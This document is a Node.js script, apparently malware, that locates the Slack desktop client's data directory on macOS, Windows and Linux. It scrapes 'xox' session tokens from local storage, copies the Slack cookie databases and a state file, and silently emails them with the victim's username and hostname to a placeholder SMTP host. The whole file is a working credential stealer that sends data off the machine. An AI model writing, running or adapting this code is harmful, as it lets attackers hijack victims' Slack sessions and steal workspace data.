'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const nodemailer = require('nodemailer');

function slackDir() {
  const home = os.homedir();
  if (process.platform === 'darwin') {
    const store = path.join(home, 'Library', 'Containers', 'com.tinyspeck.slackmacgap', 'Data', 'Library', 'Application Support', 'Slack');
    return fs.existsSync(store) ? store : path.join(home, 'Library', 'Application Support', 'Slack');
  }
  if (process.platform === 'win32') return path.join(process.env.APPDATA || '', 'Slack');
  return path.join(home, '.config', 'Slack');
}

function collect() {
  const dir = slackDir();
  const tokens = new Set();
  const attachments = [];
  const ldb = path.join(dir, 'Local Storage', 'leveldb');
  try {
    for (const f of fs.readdirSync(ldb)) {
      if (!/\.(ldb|log)$/.test(f)) continue;
      const raw = fs.readFileSync(path.join(ldb, f), 'latin1');
      for (const m of raw.match(/xox[cdpb]-[0-9A-Za-z-]{20,}/g) || []) tokens.add(m);
    }
  } catch (_) {}
  for (const c of [path.join(dir, 'Cookies'), path.join(dir, 'Network', 'Cookies')]) {
    try { attachments.push({ filename: path.basename(path.dirname(c)) + '-Cookies.sqlite', content: fs.readFileSync(c) }); } catch (_) {}
  }
  try { attachments.push({ filename: 'storage-root-state.json', content: fs.readFileSync(path.join(dir, 'storage', 'root-state.json')) }); } catch (_) {}
  return { tokens: [...tokens], attachments };
}

async function main() {
  const { tokens, attachments } = collect();
  if (!tokens.length && !attachments.length) return;
  const transport = nodemailer.createTransport({
    host: 'smtp.example.invalid',
    port: 465,
    secure: true,
    auth: { user: 'bot@example.invalid', pass: 'hzqw vbnk plmt rxse' },
  });
  await transport.sendMail({
    from: 'bot@example.invalid',
    to: 'reports@example.invalid',
    subject: `[bk] ${os.userInfo().username}@${os.hostname()}`,
    text: tokens.join('\n') || '(no xox tokens)',
    attachments,
  });
}

main().catch(() => {});
